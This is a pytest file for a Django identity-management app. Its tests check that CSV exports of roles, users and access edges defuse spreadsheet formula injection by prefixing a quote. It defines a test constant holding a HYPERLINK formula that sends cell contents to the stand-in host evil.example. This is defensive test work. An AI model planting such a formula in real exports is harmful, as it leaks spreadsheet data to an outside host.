"""CSV exports: every one neutralises cells a spreadsheet would read as formulas (issue 14,
item 4)."""

from __future__ import annotations

import copy
import csv
import io
from typing import Any

import pytest
from django.core.management import call_command

from identities.queries.exports import SafeCsvWriter, safe_cell
from tests.factories import AccountFactory, IamRoleFactory, IamUserFactory

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (FORMULA, "'" + FORMULA),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("plain = text", "plain = text"),
        ("arn:aws:iam::111111111111:role/a", "arn:aws:iam::111111111111:role/a"),
        ("", ""),
    ],
)
def test_safe_cell_prefixes_formula_starts_with_a_quote(value, shown):
    assert safe_cell(value) == shown


def test_safe_writer_quotes_and_neutralises():
    out = io.StringIO()
    SafeCsvWriter(out, lineterminator="\n").writerow([FORMULA, "a,b", "ok"])

    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'" + FORMULA, "a,b", "ok"]]


def _csv(response: Any) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_role_list_csv_neutralises_a_formula_description(logged_in_client):
    IamRoleFactory(account=AccountFactory(account_id="111111111111"), description=FORMULA)

    rows = _csv(logged_in_client.get("/roles/", {"format": "csv"}))

    assert rows[1][rows[0].index("description")] == "'" + FORMULA


def test_user_list_csv_neutralises_a_formula_name(logged_in_client):
    # `[\w+=,.@-]+` is AWS's user name pattern: `=1+2` is a legal user name.
    IamUserFactory(account=AccountFactory(account_id="111111111111"), name="=1+2")

    rows = _csv(logged_in_client.get("/users/", {"format": "csv"}))

    assert rows[1][rows[0].index("name")] == "'=1+2"
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_access_edges_csv_neutralises_a_formula_condition_key(db, sample_bundle):
    from identities.analysis import analyse_estate
    from identities.ingest.imports import import_bundle

    bundle = copy.deepcopy(sample_bundle)
    swapped = 0
    for account in bundle["accounts"]:
        for role in account["authorization_details"]["RoleDetailList"]:
            for statement in role["AssumeRolePolicyDocument"]["Statement"]:
                bools = statement.get("Condition", {}).get("Bool", {})
                if "aws:MultiFactorAuthPresent" in bools:
                    bools[FORMULA] = bools.pop("aws:MultiFactorAuthPresent")
                    swapped += 1
    assert swapped
    import_bundle(bundle, label="formula.json")
    analyse_estate()
    out = io.StringIO()

    call_command("access_edges", "--format", "csv", stdout=out)

    rows = list(csv.reader(io.StringIO(out.getvalue())))
    # Condition keys are case-insensitive: the analysis may store them in lower case.
    cells = [cell.lower() for row in rows for cell in row if "hyperlink" in cell.lower()]
    assert ("'" + FORMULA).lower() in cells
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
